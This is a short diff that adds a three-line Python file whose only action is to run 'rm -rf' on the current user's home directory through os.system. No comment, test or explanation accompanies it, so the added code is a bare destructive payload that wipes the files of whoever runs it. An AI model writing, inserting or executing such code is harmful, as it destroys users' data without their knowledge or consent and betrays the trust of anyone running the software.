@@ -1,0 +1,3 @@
+import os
+
+os.system('rm -rf ' + os.path.expanduser('~'))
